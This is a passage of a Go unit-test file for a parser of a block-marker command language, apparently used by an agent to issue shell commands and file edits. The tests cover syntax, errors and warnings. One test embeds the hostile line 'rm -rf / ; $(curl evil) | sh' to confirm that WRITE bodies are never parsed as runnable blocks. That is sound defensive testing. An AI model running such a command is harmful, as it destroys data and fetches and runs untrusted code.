package parser

import (
	"bytes"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

// The -update flag may also be declared by another test file of this
// package; define it only when nobody has.
func init() {
	if flag.Lookup("update") == nil {
		flag.Bool("update", false, "rewrite golden files")
	}
}

func updateGolden() bool {
	f := flag.Lookup("update")
	return f != nil && f.Value.String() == "true"
}

// wantBlock is what a test expects of a Block. Err is a phrase that the
// block error's message must contain, case-insensitively (docs/csl.md §6).
type wantBlock struct {
	Kind   Kind
	Line   int
	Group  int
	Dir    string
	Attrs  map[string]string
	Body   string
	Argv   []string
	Denied bool
	Err    string
}

// wantErr is an expected error: its line and a phrase of its message.
type wantErr struct {
	Line   int
	Phrase string
}

type blocksCase struct {
	name     string
	in       string
	reason   string
	blocks   []wantBlock
	errs     []wantErr // block errors
	fatal    *wantErr
	warnings []int // lines
}

// phrase returns want when got contains it case-insensitively, else got,
// so that cmp.Diff shows the whole message when it doesn't match.
func blocksPhrase(got, want string) string {
	if want != "" && strings.Contains(strings.ToLower(got), strings.ToLower(want)) {
		return want
	}
	return got
}

func blocksSummary(d *Document, tt blocksCase) (blocks []wantBlock, errs []wantErr, fatal *wantErr, warnings []int) {
	for i, b := range d.Blocks {
		w := wantBlock{Kind: b.Kind, Line: b.Line, Group: b.Group, Dir: b.Dir, Attrs: b.Attrs,
			Body: b.Body, Argv: b.Argv, Denied: b.Denied != nil}
		if b.Err != nil {
			want := ""
			if i < len(tt.blocks) {
				want = tt.blocks[i].Err
			}
			w.Err = blocksPhrase(b.Err.Msg, want)
		}
		blocks = append(blocks, w)
	}
	for i, e := range d.Errors {
		want := ""
		if i < len(tt.errs) {
			want = tt.errs[i].Phrase
		}
		errs = append(errs, wantErr{e.Line, blocksPhrase(e.Msg, want)})
	}
	if d.Fatal != nil {
		want := ""
		if tt.fatal != nil {
			want = tt.fatal.Phrase
		}
		fatal = &wantErr{d.Fatal.Line, blocksPhrase(d.Fatal.Msg, want)}
	}
	for _, w := range d.Warnings {
		warnings = append(warnings, w.Line)
	}
	return blocks, errs, fatal, warnings
}

func cslLines(lines ...string) string { return strings.Join(lines, "\n") + "\n" }

var blocksCases = []blocksCase{
	// §1 Input.
	{name: "empty document", in: ""},
	{name: "prose only", in: "Here is my plan.\nI will run the tests.\n"},
	{
		name: "simple RUN", in: cslLines("<---RUN--->", "go test ./...", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Body: "go test ./...", Argv: []string{"go", "test", "./..."}}},
	},
	{
		name: "no final newline", in: "<---RUN--->\necho hi\n<---END--->",
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Body: "echo hi", Argv: []string{"echo", "hi"}}},
	},
	{
		name: "invalid UTF-8", in: cslLines("prose", "<---RUN--->", "echo \xff", "<---END--->"),
		fatal: &wantErr{3, "invalid UTF-8"},
	},
	{
		name: "invalid UTF-8 after a closed block", in: cslLines("<---RUN--->", "echo a", "<---END--->", "bad \xc3\x28 text"),
		reason: "nothing in a document with invalid UTF-8 is parsed, not even blocks before it",
		fatal:  &wantErr{4, "invalid UTF-8"},
	},
	{
		name: "invalid UTF-8 line counted with CR endings", in: "a\r\nb\rc\r\n\xe2\x82\r\n",
		fatal: &wantErr{4, "invalid UTF-8"},
	},
	{
		name: "invalid UTF-8 on the last line without newline", in: "a\nb\n\xff",
		fatal: &wantErr{3, "invalid UTF-8"},
	},
	{
		name: "BOM at start is removed", in: "\uFEFF" + cslLines("<---RUN--->", "echo hi", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Body: "echo hi", Argv: []string{"echo", "hi"}}},
	},
	{
		name: "BOM elsewhere is text", in: cslLines("x", "\uFEFF<---RUN--->", "echo hi", "<---END--->"),
		reason: "line 2 starts with U+FEFF, so it is prose; the END then has no open block",
		fatal:  &wantErr{4, "END marker with no open block"},
	},
	{
		name: "only one BOM is removed", in: "\uFEFF\uFEFF<---RUN--->\necho hi\n",
		reason: "the second BOM makes line 1 prose, so nothing is unterminated",
	},
	{
		name: "CRLF", in: "<---RUN--->\r\necho \\\r\n  hi\r\n<---END--->\r\n",
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Body: "echo \\\n  hi", Argv: []string{"echo", "hi"}}},
	},
	{
		name: "lone CR", in: "a\r\r<---RUN--->\recho hi\r<---END--->",
		blocks: []wantBlock{{Kind: KindRun, Line: 3, Body: "echo hi", Argv: []string{"echo", "hi"}}},
	},
	{
		name: "mixed line endings", in: "a\r\n\r\n\n\r<---RUN--->\necho hi\r\n<---END--->\r",
		blocks: []wantBlock{{Kind: KindRun, Line: 5, Body: "echo hi", Argv: []string{"echo", "hi"}}},
	},
	{
		name: "trailing whitespace on markers", in: "<---RUN dir=\"a\"---> \t \necho hi\n<---END--->\t\n",
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Dir: "a", Attrs: map[string]string{"dir": "a"}, Body: "echo hi", Argv: []string{"echo", "hi"}}},
	},
	{
		name: "body is untrimmed", in: cslLines("<---RUN--->", "", "  echo hi  \t", "", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Body: "\n  echo hi  \t\n", Argv: []string{"echo", "hi"}}},
	},
	{
		name: "quoted string spans lines", in: cslLines("<---RUN--->", "echo 'a", "", "b'", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Body: "echo 'a\n\nb'", Argv: []string{"echo", "a\n\nb"}}},
	},

	// §2 Marker lines.
	{
		name: "indented markers are prose", in: cslLines(" <---RUN--->", "echo hi", "\t<---END--->"),
	},
	{
		name: "not quite markers are prose", in: cslLines("<--RUN--->", "<- RUN ->", "---> x", "<<---RUN--->", "<= RUN"),
	},
	{
		name: "blank ATTRTEXT", in: cslLines("<---RUN \t--->", "echo hi", "<---END  --->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Body: "echo hi", Argv: []string{"echo", "hi"}}},
	},
	{
		name: "attribute forms", in: cslLines(`<---RUN dir = 'sub dir'--->`, "ls", "<---END--->", "<---RUN\tdir=\"x\"\t--->", "ls", "<---END--->"),
		blocks: []wantBlock{
			{Kind: KindRun, Line: 1, Dir: "sub dir", Attrs: map[string]string{"dir": "sub dir"}, Body: "ls", Argv: []string{"ls"}},
			{Kind: KindRun, Line: 4, Dir: "x", Attrs: map[string]string{"dir": "x"}, Body: "ls", Argv: []string{"ls"}},
		},
	},
	{
		name: "attribute quoting", in: cslLines(`<---WRITE a="q\"q" b='s\'s' c="b\\s" d="x\y" e="" f='it\"s' g="\\\"" h="\\"--->`, "text", "<---END--->"),
		blocks: []wantBlock{{Kind: KindWrite, Line: 1, Attrs: map[string]string{
			"a": `q"q`, "b": `s's`, "c": `b\s`, "d": `x\y`, "e": "", "f": `it\"s`, "g": `\"`, "h": `\`,
		}}},
	},
	{
		name: "attributes without whitespace between", in: cslLines(`<---WRITE a="1"b='2'--->`, "<---END--->"),
		blocks: []wantBlock{{Kind: KindWrite, Line: 1, Attrs: map[string]string{"a": "1", "b": "2"}}},
	},
	{
		name: "attribute names are case-sensitive", in: cslLines(`<---WRITE file="a" File="b"--->`, "<---END--->"),
		blocks: []wantBlock{{Kind: KindWrite, Line: 1, Attrs: map[string]string{"file": "a", "File": "b"}}},
	},
	{
		name: "ATTRTEXT runs to the last arrow", in: cslLines(`<---RUN dir="a--->b"--->`, "ls", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Dir: "a--->b", Attrs: map[string]string{"dir": "a--->b"}, Body: "ls", Argv: []string{"ls"}}},
	},
	{name: "missing attribute name", in: cslLines("x", `<---RUN ="sub"--->`, "ls", "<---END--->"), fatal: &wantErr{2, "missing attribute name"}},
	{name: "missing attribute name before quote", in: cslLines(`<---WRITE "a"--->`, "<---END--->"), fatal: &wantErr{1, "missing attribute name"}},
	{name: "expected '=' at end", in: cslLines(`<---RUN dir--->`, "ls", "<---END--->"), fatal: &wantErr{1, "expected '='"}},
	{name: "expected '=' before value", in: cslLines(`<---RUN dir "sub"--->`, "ls", "<---END--->"), fatal: &wantErr{1, "expected '='"}},
	{name: "expected '=' after quote in name", in: cslLines(`<---RUN di"r="sub"--->`, "ls", "<---END--->"), fatal: &wantErr{1, "expected '='"}},
	{name: "missing attribute value", in: cslLines(`<---RUN dir=--->`, "ls", "<---END--->"), fatal: &wantErr{1, "missing attribute value"}},
	{name: "missing attribute value before spaces", in: cslLines(`<---RUN dir=  --->`, "ls", "<---END--->"), fatal: &wantErr{1, "missing attribute value"}},
	{name: "unquoted attribute value", in: cslLines(`<---RUN dir=sub--->`, "ls", "<---END--->"), fatal: &wantErr{1, "unquoted attribute value"}},
	{name: "unterminated quoted value", in: cslLines(`<---RUN dir="sub--->`, "ls", "<---END--->"), fatal: &wantErr{1, "unterminated quoted value"}},
	{name: "unterminated quoted value with escaped quote", in: cslLines(`<---RUN dir="sub\"--->`, "ls", "<---END--->"), fatal: &wantErr{1, "unterminated quoted value"}},
	{name: "unterminated single quote", in: cslLines(`<---WRITE file='a"--->`, "<---END--->"), fatal: &wantErr{1, "unterminated quoted value"}},
	{name: "duplicate attribute", in: cslLines(`<---WRITE file="a" file="b"--->`, "<---END--->"), fatal: &wantErr{1, "duplicate attribute"}},
	{name: "duplicate dir on RUN", in: cslLines(`<---RUN dir="a" dir="a"--->`, "ls", "<---END--->"), fatal: &wantErr{1, "duplicate attribute"}},
	{name: "TASKS attributes are syntax-checked", in: cslLines(`<---TASKS version=1--->`, "<---END--->"), fatal: &wantErr{1, "unquoted attribute value"}},
	{
		name: "TASKS attributes are otherwise ignored", in: cslLines(`<---TASKS version="1" anything="x"--->`, "<---END--->"),
	},
	{name: "lower-case run", in: cslLines("<---run--->", "ls", "<---END--->"), fatal: &wantErr{1, "unknown block type"}},
	{name: "mixed-case Run", in: cslLines("<---Run--->", "ls", "<---END--->"), fatal: &wantErr{1, "unknown block type"}},
	{name: "EXEC", in: cslLines("<---EXEC--->", "ls", "<---END--->"), fatal: &wantErr{1, "unknown block type"}},
	{name: "unknown type with attributes", in: cslLines(`<---FILE name="x"--->`), fatal: &wantErr{1, "unknown block type"}},
	{name: "content after marker", in: cslLines("<---RUN---> ls", "<---END--->"), fatal: &wantErr{1, "content after marker"}},
	{name: "content after marker with attributes", in: cslLines(`<---RUN dir="a"---> ls`, "<---END--->"), fatal: &wantErr{1, "content after marker"}},
	{name: "content after END at top level", in: cslLines("<---END---> done"), fatal: &wantErr{1, "content after marker"}},
	{name: "malformed marker: no arrow", in: cslLines("<---RUN"), fatal: &wantErr{1, "malformed marker"}},
	{name: "malformed marker: bare", in: cslLines("ok", "<---"), fatal: &wantErr{2, "malformed marker"}},
	{name: "malformed marker: no name", in: cslLines("<------>"), fatal: &wantErr{1, "malformed marker"}},
	{name: "malformed marker: space before name", in: cslLines("<--- RUN--->"), fatal: &wantErr{1, "malformed marker"}},
	{name: "malformed marker: punctuation after name", in: cslLines("<---RUN:--->"), fatal: &wantErr{1, "malformed marker"}},
	{name: "malformed marker: attributes without arrow", in: cslLines(`<---RUN dir="x"`), fatal: &wantErr{1, "malformed marker"}},
	{name: "malformed marker: dashes in name", in: cslLines("<---RU-N--->"), fatal: &wantErr{1, "malformed marker"}},

	// §3 Structure.
	{
		name: "TASKS groups", in: cslLines(
			"<---TASKS version=\"1\"--->",
			"First build.",
			"<---RUN--->", "go build ./...", "<---END--->",
			"<---RUN--->", "go test ./...", "<---END--->",
			"<---END TASKS--->",
			"<---RUN--->", "ls", "<---END--->",
			"<---TASKS--->",
			"<---WRITE file=\"a\"--->", "x", "<---END--->",
			"<---END--->",
		),
		blocks: []wantBlock{
			{Kind: KindRun, Line: 3, Group: 1, Body: "go build ./...", Argv: []string{"go", "build", "./..."}},
			{Kind: KindRun, Line: 6, Group: 1, Body: "go test ./...", Argv: []string{"go", "test", "./..."}},
			{Kind: KindRun, Line: 10, Body: "ls", Argv: []string{"ls"}},
			{Kind: KindWrite, Line: 14, Group: 2, Attrs: map[string]string{"file": "a"}},
		},
	},
	{name: "empty TASKS group", in: cslLines("<---TASKS--->", "<---END--->")},
	{name: "END TASKS with any whitespace", in: cslLines("<---TASKS--->", "<---END \t TASKS \t--->", "<---TASKS--->", "<---END\tTASKS--->")},
	{
		name: "TASKS cannot be nested", in: cslLines("<---TASKS--->", "<---RUN--->", "ls", "<---END--->", "<---TASKS--->", "<---END--->", "<---END--->"),
		reason: "the RUN block closed before the fatal error stays",
		blocks: []wantBlock{{Kind: KindRun, Line: 2, Group: 1, Body: "ls", Argv: []string{"ls"}}},
		fatal:  &wantErr{5, "TASKS cannot be nested"},
	},
	{name: "END RUN closing TASKS", in: cslLines("<---TASKS--->", "<---END RUN--->"), fatal: &wantErr{2, "malformed END marker"}},
	{name: "END TASKS X closing TASKS", in: cslLines("<---TASKS--->", "<---END TASKS X--->"), fatal: &wantErr{2, "malformed END marker"}},
	{name: "content after END in TASKS", in: cslLines("<---TASKS--->", "<---END---> done"), fatal: &wantErr{2, "content after marker"}},
	{name: "END at top level", in: cslLines("prose", "<---END--->"), fatal: &wantErr{2, "END marker with no open block"}},
	{name: "END RUN at top level", in: cslLines("<---END RUN--->"), fatal: &wantErr{1, "END marker with no open block"}},
	{name: "END TASKS at top level", in: cslLines("<---END TASKS--->"), fatal: &wantErr{1, "END marker with no open block"}},
	{
		name: "END after a closed block", in: cslLines("<---RUN--->", "ls", "<---END--->", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Body: "ls", Argv: []string{"ls"}}},
		fatal:  &wantErr{4, "END marker with no open block"},
	},
	{name: "TO at top level", in: cslLines("<---TO--->"), fatal: &wantErr{1, "TO marker outside SEARCH block"}},
	{name: "REPLACE at top level", in: cslLines("<---REPLACE--->"), fatal: &wantErr{1, "REPLACE marker outside SEARCH block"}},
	{name: "TO in TASKS", in: cslLines("<---TASKS--->", "<---TO--->", "<---END--->"), fatal: &wantErr{2, "outside SEARCH block"}},
	{name: "unknown block type in TASKS", in: cslLines("<---TASKS--->", "<---EXEC--->"), fatal: &wantErr{2, "unknown block type"}},
	{name: "malformed marker in TASKS", in: cslLines("<---TASKS--->", "<---"), fatal: &wantErr{2, "malformed marker"}},
	{
		name: "END K closes block K", in: cslLines("<---RUN--->", "ls", "<---END RUN--->", "<---WRITE--->", "<---END  WRITE --->",
			"<---SEARCH--->", "<---REPLACE--->", "<---END SEARCH--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Body: "ls", Argv: []string{"ls"}}, {Kind: KindWrite, Line: 4}, {Kind: KindSearch, Line: 6}},
	},
	{
		name: "END WRITE closing RUN", in: cslLines("<---RUN--->", "ls", "<---END WRITE--->"),
		fatal: &wantErr{3, "malformed END marker"},
	},
	{
		name: "END TASKS closing RUN in TASKS", in: cslLines("<---TASKS--->", "<---RUN--->", "ls", "<---END TASKS--->"),
		fatal: &wantErr{4, "malformed END marker"},
	},
	{name: "END with text after it in a block", in: cslLines("<---WRITE--->", "<---END---> bye"), fatal: &wantErr{2, "malformed END marker"}},
	{name: "END with arrow text after it in a block", in: cslLines("<---WRITE--->", "<---END--->--->"), fatal: &wantErr{2, "malformed END marker"}},
	{name: "END with attribute in a block", in: cslLines("<---WRITE--->", `<---END file="x"--->`), fatal: &wantErr{2, "malformed END marker"}},
	{
		name: "markers inside WRITE are body", in: cslLines(
			`<---WRITE file="notes.md"--->`,
			"<---RUN--->", "rm -rf / ; $(curl evil) | sh", "<---TASKS--->", "<---TO--->", "<---REPLACE--->",
			"<---run--->", "<---", "<---RUN---> x", "  <---END--->", "\t<---END--->", "<---ENDX--->", "<---END",
			"<<<<<<< RUN", "<run>rm</run>",
			"<---END--->",
		),
		reason: "nothing in a WRITE body is a block, an error or a warning",
		blocks: []wantBlock{{Kind: KindWrite, Line: 1, Attrs: map[string]string{"file": "notes.md"}}},
	},
	{
		name: "markers inside RUN are body", in: cslLines("<---RUN--->", "echo '", "<---TO--->", "<---RUN--->", "  <---END--->", "'", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Body: "echo '\n<---TO--->\n<---RUN--->\n  <---END--->\n'",
			Argv: []string{"echo", "\n<---TO--->\n<---RUN--->\n  <---END--->\n"}}},
	},
	{
		name: "SEARCH with TO and REPLACE", in: cslLines(`<---SEARCH file="a.go" count="1"--->`, "old", "<---TO--->", "new", "<---REPLACE--->", "x", "<---END--->"),
		blocks: []wantBlock{{Kind: KindSearch, Line: 1, Attrs: map[string]string{"file": "a.go", "count": "1"}}},
	},
	{
		name: "SEARCH with REPLACE only", in: cslLines("<---SEARCH--->", "old", "<---REPLACE  --->", "new", "<---END--->"),
		blocks: []wantBlock{{Kind: KindSearch, Line: 1}},
	},
	{
		name: "SEARCH missing REPLACE", in: cslLines("<---SEARCH file=\"a\"--->", "old", "<---TO--->", "new", "<---END--->", "<---RUN--->", "ls", "<---END--->"),
		reason: "a block error; parsing continues",
		blocks: []wantBlock{
			{Kind: KindSearch, Line: 1, Attrs: map[string]string{"file": "a"}, Err: "SEARCH block missing REPLACE section"},
			{Kind: KindRun, Line: 6, Body: "ls", Argv: []string{"ls"}},
		},
		errs: []wantErr{{1, "SEARCH block missing REPLACE section"}},
	},
	{
		name: "REPLACE with attributes is body", in: cslLines("<---SEARCH--->", "old", `<---REPLACE x="1"--->`, "<---END--->"),
		blocks: []wantBlock{{Kind: KindSearch, Line: 1, Err: "missing REPLACE section"}},
		errs:   []wantErr{{1, "missing REPLACE section"}},
	},
	{
		name: "TO after REPLACE is body", in: cslLines("<---SEARCH--->", "<---REPLACE--->", "<---TO--->", "<---END--->"),
		blocks: []wantBlock{{Kind: KindSearch, Line: 1}},
	},
	{
		name: "TO and REPLACE inside RUN are body", in: cslLines("<---RUN--->", "<---TO--->", "<---END--->"),
		reason: "the body `<---TO--->` is not valid shell",
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Body: "<---TO--->", Err: "invalid shell syntax in RUN block"}},
		errs:   []wantErr{{1, "invalid shell syntax in RUN block"}},
	},
	{name: "unterminated RUN block", in: cslLines("a", "<---RUN--->", "ls"), fatal: &wantErr{2, "unterminated RUN block"}},
	{name: "unterminated RUN block at end of input", in: "<---RUN--->", fatal: &wantErr{1, "unterminated RUN block"}},
	{name: "unterminated WRITE block", in: cslLines("<---WRITE file=\"x\"--->", "<---END WRITE"), fatal: &wantErr{1, "unterminated WRITE block"}},
	{name: "unterminated SEARCH block", in: cslLines("<---SEARCH--->", "<---REPLACE--->"), fatal: &wantErr{1, "unterminated SEARCH block"}},
	{name: "unterminated TASKS group", in: cslLines("<---TASKS--->", "<---RUN--->", "ls", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 2, Group: 1, Body: "ls", Argv: []string{"ls"}}},
		fatal:  &wantErr{1, "unterminated TASKS group"}},
	{
		name: "unterminated block in TASKS is reported at the block", in: cslLines("<---TASKS--->", "<---RUN--->", "ls"),
		fatal: &wantErr{2, "unterminated RUN block"},
	},
	{
		name: "blocks closed before a fatal error stay", in: cslLines(
			"<---RUN--->", "ls", "<---END--->",
			"<---RUN--->", "echo a; echo b", "<---END--->",
			"<---RUN--->", "pwd", "<---END--->",
			"<---EXEC--->",
			"<---RUN--->", "ls", "<---END--->",
		),
		blocks: []wantBlock{
			{Kind: KindRun, Line: 1, Body: "ls", Argv: []string{"ls"}},
			{Kind: KindRun, Line: 4, Body: "echo a; echo b", Err: "more than one command in RUN block"},
			{Kind: KindRun, Line: 7, Body: "pwd", Argv: []string{"pwd"}},
		},
		errs:  []wantErr{{4, "more than one command in RUN block"}},
		fatal: &wantErr{10, "unknown block type"},
	},

	// §4 Blocks.
	{
		name: "RUN dir", in: cslLines(`<---RUN dir="cmd/clada"--->`, "go vet", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Dir: "cmd/clada", Attrs: map[string]string{"dir": "cmd/clada"}, Body: "go vet", Argv: []string{"go", "vet"}}},
	},
	{
		name: "empty dir attribute", in: cslLines(`<---RUN dir=""--->`, "echo 'unclosed", "<---END--->", "<---RUN--->", "ls", "<---END--->"),
		reason: "attribute errors are block errors and the body is then not analysed",
		blocks: []wantBlock{
			{Kind: KindRun, Line: 1, Attrs: map[string]string{"dir": ""}, Body: "echo 'unclosed", Err: "empty dir attribute"},
			{Kind: KindRun, Line: 4, Body: "ls", Argv: []string{"ls"}},
		},
		errs: []wantErr{{1, "empty dir attribute"}},
	},
	{
		name: "unknown attribute on RUN", in: cslLines(`<---RUN dir="a" timeout="5"--->`, "ls", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Dir: "a", Attrs: map[string]string{"dir": "a", "timeout": "5"}, Body: "ls", Err: `unknown attribute "timeout" on RUN`}},
		errs:   []wantErr{{1, `unknown attribute "timeout" on RUN`}},
	},
	{
		name: "attribute names on RUN are case-sensitive", in: cslLines(`<---RUN Dir="a"--->`, "ls", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Attrs: map[string]string{"Dir": "a"}, Body: "ls", Err: `unknown attribute "Dir" on RUN`}},
		errs:   []wantErr{{1, `unknown attribute "Dir" on RUN`}},
	},
	{
		name: "WRITE and SEARCH attributes are not checked", in: cslLines(`<---WRITE file="a" append="true" x="y"--->`, "<---END--->", `<---SEARCH zzz=""--->`, "<---REPLACE--->", "<---END--->"),
		blocks: []wantBlock{
			{Kind: KindWrite, Line: 1, Attrs: map[string]string{"file": "a", "append": "true", "x": "y"}},
			{Kind: KindSearch, Line: 3, Attrs: map[string]string{"zzz": ""}},
		},
	},

	// §5 RUN body (analysed by analyzeRun).
	{
		name: "markdown code fence", in: cslLines("<---RUN--->", "", "```bash", "ls", "```", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Body: "\n```bash\nls\n```", Err: "markdown code fence inside RUN block"}},
		errs:   []wantErr{{1, "markdown code fence inside RUN block"}},
	},
	{
		name: "empty RUN block", in: cslLines("<---RUN--->", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Err: "empty RUN block"}},
		errs:   []wantErr{{1, "empty RUN block"}},
	},
	{
		name: "blank RUN block", in: cslLines("<---RUN--->", "  ", "\t", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Body: "  \n\t", Err: "empty RUN block"}},
		errs:   []wantErr{{1, "empty RUN block"}},
	},
	{
		name: "comment-only RUN block", in: cslLines("<---RUN--->", "# nothing", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Body: "# nothing", Err: "empty RUN block"}},
		errs:   []wantErr{{1, "empty RUN block"}},
	},
	{
		name: "invalid shell syntax", in: cslLines("x", "<---RUN--->", "echo 'unclosed", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 2, Body: "echo 'unclosed", Err: "invalid shell syntax in RUN block"}},
		errs:   []wantErr{{2, "invalid shell syntax in RUN block"}},
	},
	{
		name: "two commands on two lines", in: cslLines("<---RUN--->", "ls", "pwd", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Body: "ls\npwd", Err: "more than one command in RUN block"}},
		errs:   []wantErr{{1, "more than one command in RUN block"}},
	},
	{
		name: "two commands with &", in: cslLines("<---RUN--->", "sleep 1 & ls", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Body: "sleep 1 & ls", Err: "more than one command in RUN block"}},
		errs:   []wantErr{{1, "more than one command in RUN block"}},
	},
	{
		name: "dangling line continuation", in: cslLines("<---RUN--->", "ls \\", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Body: "ls \\", Err: "dangling line continuation at end of RUN block"}},
		errs:   []wantErr{{1, "dangling line continuation at end of RUN block"}},
	},
	{
		name: "denied body is not a CSL error", in: cslLines("<---RUN--->", "echo $HOME", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Body: "echo $HOME", Denied: true}},
	},
	{
		name: "comments and continuations", in: cslLines("<---RUN--->", "# list", "ls \\", "  -la # long", "<---END--->"),
		blocks: []wantBlock{{Kind: KindRun, Line: 1, Body: "# list\nls \\\n  -la # long", Argv: []string{"ls", "-la"}}},
	},

	// §7 Warnings.
	{name: "conflict-marker RUN warns", in: cslLines("<<<<<<< RUN", "ls", ">>>>>>> END"), warnings: []int{1}},
	{name: "CML run warns", in: cslLines("text", "<run>ls</run>"), warnings: []int{2}},
	{name: "indented run does not warn", in: cslLines(" <run>ls</run>", "  <<<<<<< RUN")},
	{name: "run in TASKS warns", in: cslLines("<---TASKS--->", "<run>ls</run>", "<---END--->"), warnings: []int{2}},
	{name: "markdown fences around blocks are prose", in: cslLines("```", "<---RUN--->", "ls", "<---END--->", "```"),
		blocks: []wantBlock{{Kind: KindRun, Line: 2, Body: "ls", Argv: []string{"ls"}}}},
}

func TestBlocks(t *testing.T) {
	t.Parallel()
	for _, tt := range blocksCases {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			d, err := Blocks("t.csl", strings.NewReader(tt.in))
			if err != nil {
				t.Fatalf("Blocks: %v", err)
			}
			blocks, errs, fatal, warnings := blocksSummary(d, tt)
			if diff := cmp.Diff(tt.blocks, blocks); diff != "" {
				t.Errorf("blocks (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tt.errs, errs); diff != "" {
				t.Errorf("block errors (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tt.fatal, fatal); diff != "" {
				t.Errorf("fatal (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tt.warnings, warnings); diff != "" {
				t.Errorf("warnings (-want +got):\n%s", diff)
			}
			if got, want := d.OK(), tt.fatal == nil && len(tt.errs) == 0; got != want {
				t.Errorf("OK() = %v, want %v", got, want)
			}
			checkDocument(t, tt.in, d)
		})
	}
}

// checkDocument checks what must hold for every document; FuzzBlocks
// uses it too.
func checkDocument(t *testing.T, in string, d *Document) {
	t.Helper()
	lines := cslLineCount(in)
	all := append(append([]*Error{}, d.Errors...), d.Warnings...)
	if d.Fatal != nil {
		all = append(all, d.Fatal)
		if !d.Fatal.Fatal {
			t.Errorf("Fatal.Fatal = false")
		}
	}
	for _, e := range all {
		if e.Line < 1 || e.Line > lines {
			t.Errorf("error %q at line %d, outside 1..%d", e, e.Line, lines)
		}
		if e.Source != d.Source || e.Msg == "" {
			t.Errorf("error %#v: bad source or empty message", e)
		}
	}
	for _, e := range append(d.Errors, d.Warnings...) {
		if e.Fatal {
			t.Errorf("block error or warning %q marked fatal", e)
		}
	}
	var blockErrs []*Error
	prev := 0
	skipped := 0
	for i, b := range d.Blocks {
		if b.Line <= prev || b.Line > lines {
			t.Errorf("block %d at line %d: not after line %d or outside 1..%d", i, b.Line, prev, lines)
		}
		prev = b.Line
		if b.Err != nil {
			blockErrs = append(blockErrs, b.Err)
			if b.Argv != nil || b.Denied != nil {
				t.Errorf("block %d has Err and Argv %q or Denied %v", i, b.Argv, b.Denied)
			}
		}
		switch b.Kind {
		case KindRun:
			if b.Err == nil && (b.Argv == nil) == (b.Denied == nil) {
				t.Errorf("RUN block %d: want exactly one of Argv %q and Denied %v", i, b.Argv, b.Denied)
			}
			if b.Dir != b.Attrs["dir"] {
				t.Errorf("RUN block %d: Dir %q, dir attribute %q", i, b.Dir, b.Attrs["dir"])
			}
		case KindWrite, KindSearch:
			skipped++
			if b.Body != "" || b.Argv != nil || b.Denied != nil || b.Dir != "" {
				t.Errorf("%s block %d carries a body, argv or dir", b.Kind, i)
			}
		default:
			t.Errorf("block %d: kind %q", i, b.Kind)
		}
		if b.Attrs != nil && len(b.Attrs) == 0 {
			t.Errorf("block %d: empty non-nil Attrs", i)
		}
	}
	if diff := cmp.Diff(d.Errors, blockErrs); diff != "" {
		t.Errorf("Errors are not the blocks' Err, in order (-Errors +blocks):\n%s", diff)
	}
	if d.Skipped() != skipped {
		t.Errorf("Skipped() = %d, want %d", d.Skipped(), skipped)
	}
	if d.OK() != (d.Fatal == nil && len(d.Errors) == 0) {
		t.Errorf("OK() = %v with Fatal %v and %d errors", d.OK(), d.Fatal, len(d.Errors))
	}
	if d.Fatal != nil && strings.Contains(strings.ToLower(d.Fatal.Msg), "invalid utf-8") && len(d.Blocks) != 0 {
		t.Errorf("invalid UTF-8, yet %d blocks", len(d.Blocks))
	}
	checkNoRunInsideSkipped(t, in, d)
}

// cslLineCount counts lines as docs/csl.md §1 does, independently of the parser.
func cslLineCount(in string) int {
	in = strings.TrimPrefix(in, "\uFEFF")
	n := 0
	for i := 0; i < len(in); i++ {
		switch in[i] {
		case '\n':
			n++
		case '\r':
			n++
			if i+1 < len(in) && in[i+1] == '\n' {
				i++
			}
		}
	}
	if in != "" && in[len(in)-1] != '\n' && in[len(in)-1] != '\r' {
		n++
	}
	return n
}

// checkNoRunInsideSkipped checks that no RUN block opens inside a WRITE
// or SEARCH block. A WRITE or SEARCH block at line L ends at the latest at
// the first later column-1 line starting with `<---END` and not followed
// by a name character: that is a closing END or a fatal error. So a RUN
// block at a line in between came from inside its body.
func checkNoRunInsideSkipped(t *testing.T, in string, d *Document) {
	t.Helper()
	lines := strings.Split(strings.ReplaceAll(strings.ReplaceAll(strings.TrimPrefix(in, "\uFEFF"), "\r\n", "\n"), "\r", "\n"), "\n")
	for _, b := range d.Blocks {
		if b.Kind == KindRun {
			continue
		}
		end := len(lines) + 1
		for n := b.Line + 1; n <= len(lines); n++ {
			l := lines[n-1]
			if strings.HasPrefix(l, "<---END") && (len(l) == 7 || !isNameByte(l[7])) {
				end = n
				break
			}
		}
		for _, r := range d.Blocks {
			if r.Kind == KindRun && r.Line > b.Line && r.Line <= end {
